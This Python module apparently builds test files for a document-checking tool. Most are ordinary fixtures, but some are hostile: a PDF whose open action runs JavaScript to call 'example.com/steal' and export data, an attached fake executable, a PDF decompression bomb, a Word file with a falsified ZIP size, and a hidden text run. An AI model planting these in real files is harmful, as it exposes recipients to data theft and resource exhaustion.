"""Documents good and bad, made of small code: the bytes, and nothing of a real file."""

import io
import struct
import zipfile
from collections.abc import Sequence

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'

PLAN = """4.2 Improvement plans
A plan states the standard, the evidence, the support, the length (usually eight to twelve weeks) and dated reviews.
The employee may comment and may bring a colleague or union representative to any review.
Signing means received, not agreed.

4.3 Causes
Before and during a plan the manager asks about causes, including workload, training, health or caring duties.
Managers do not ask for diagnoses.

4.6 Outcomes
No outcome may be announced before the final review. Possible outcomes: met, extended, formal stage."""


def pdf(
    pages: Sequence[str],
    *,
    password: str = "",
    owner: str = "",
    script: bool = False,
    attached: bool = False,
) -> bytes:
    """A PDF with these pages, one line of text under the other."""
    writer = PdfWriter()
    fonts = resources(writer)
    for text in pages:
        page = writer.add_blank_page(width=595, height=842)
        lines = [
            line.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
            for line in text.splitlines()
        ]
        shown = "".join(f"({line}) Tj T* " for line in lines)
        stream = DecodedStreamObject()
        stream.set_data(f"BT /F1 11 Tf 14 TL 50 790 Td {shown}ET".encode("latin-1"))
        page[NameObject("/Contents")] = writer._add_object(stream)
        page[NameObject("/Resources")] = fonts
    if script:
        writer.add_open_action(
            JavaScript(
                "app.launchURL('https://example.com/steal'); this.exportDataObject({cName: 'x'});"
            )
        )
    if attached:
        writer.add_attachment("payload.exe", b"MZ\x90\x00 not to be looked at")
    if password or owner:
        writer.encrypt(
            user_password=password, owner_password=owner or password, algorithm="AES-256"
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def resources(writer: PdfWriter) -> DictionaryObject:
    """What a page needs to show text."""
    facts = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    font = DictionaryObject({NameObject(key): NameObject(value) for key, value in facts.items()})
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    return DictionaryObject({NameObject("/Font"): fonts})


def pdf_bomb(megabytes: int) -> bytes:
    """A PDF whose one page unpacks to so many megabytes of drawing."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    stream.set_data(b"BT /F1 9 Tf " + b"(a) Tj " * (megabytes << 20 >> 3) + b"ET")
    page[NameObject("/Contents")] = writer._add_object(stream.flate_encode())
    page[NameObject("/Resources")] = resources(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def paragraph(text: str, style: str = "", *, hidden: bool = False, new_page: bool = False) -> str:
    """One paragraph of a Word document."""
    styled = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    run = "<w:rPr><w:vanish/></w:rPr>" if hidden else ""
    turned = "<w:lastRenderedPageBreak/>" if new_page else ""
    return f"<w:p>{styled}<w:r>{run}{turned}<w:t>{text}</w:t></w:r></w:p>"


def docx(*body: str, head: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A Word document; `head` goes before its root element, `parts` beside its own."""
    document = f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document xmlns:w="{WORD}"><w:body>{"".join(body)}</w:body></w:document>'
    styles = f'<w:styles xmlns:w="{WORD}"><w:style w:styleId="H1"><w:name w:val="heading 1"/></w:style></w:styles>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", TYPES)
        packed.writestr("word/document.xml", document)
        packed.writestr("word/styles.xml", styles)
        for name, data in (parts or {}).items():
            packed.writestr(name, data)
    return out.getvalue()


def word_plan() -> bytes:
    """The plan as a Word document, with a hidden run and a table."""
    blocks = []
    for section in PLAN.split("\n\n"):
        heading, *lines = section.splitlines()
        blocks += [paragraph(heading, "H1"), *(paragraph(line) for line in lines)]
    table = f"<w:tbl><w:tr><w:tc>{paragraph('Length')}</w:tc><w:tc>{paragraph('12 weeks')}</w:tc></w:tr></w:tbl>"
    return docx(
        *blocks,
        paragraph("A hidden order.", hidden=True),
        table,
        paragraph("On the second page.", new_page=True),
    )


def lying_docx() -> bytes:
    """A Word document whose part says that it is small and unpacks to far more."""
    data = docx(paragraph("a" * 60_000_000))
    at = data.rindex(b"PK\x01\x02")
    while b"word/document.xml" not in data[at : at + 80]:
        at = data.rindex(b"PK\x01\x02", 0, at)
    return data[: at + 24] + struct.pack("<I", 1000) + data[at + 28 :]


def packed_files(**files: bytes) -> bytes:
    """A ZIP file that is no Word document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, data in files.items():
            packed.writestr(name, data)
    return out.getvalue()


def png() -> bytes:
    """A picture of one dot."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


def old_office(*, sealed: bool = False) -> bytes:
    """The beginning of an old Office file, or of a new one with a password."""
    inside = "EncryptedPackage".encode("utf-16-le") if sealed else b"WordDocument"
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + inside + bytes(500)
